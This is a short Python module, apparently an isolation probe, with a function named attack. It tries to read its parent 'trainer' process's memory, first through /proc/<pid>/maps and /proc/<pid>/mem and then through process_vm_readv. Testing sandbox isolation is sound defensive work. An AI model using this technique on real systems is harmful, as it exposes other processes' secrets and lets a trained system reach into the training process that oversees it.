"""Read the memory of the trainer: through /proc and by process_vm_readv."""

import ctypes
import struct
from typing import Any


def attack(target: dict[str, Any]) -> bool:
    pid = target["parent_pid"]
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(int(maps.readline().split("-")[0], 16))
            return bool(memory.read(16))
    except (OSError, ValueError):
        pass
    here = ctypes.create_string_buffer(16)
    vector = struct.pack("PN", ctypes.addressof(here), 16)
    there = struct.pack("PN", target["address"], 16)
    libc = ctypes.CDLL(None, use_errno=True)
    one, flags = ctypes.c_ulong(1), ctypes.c_ulong(0)
    return bool(libc.process_vm_readv(pid, vector, one, there, one, flags) > 0)
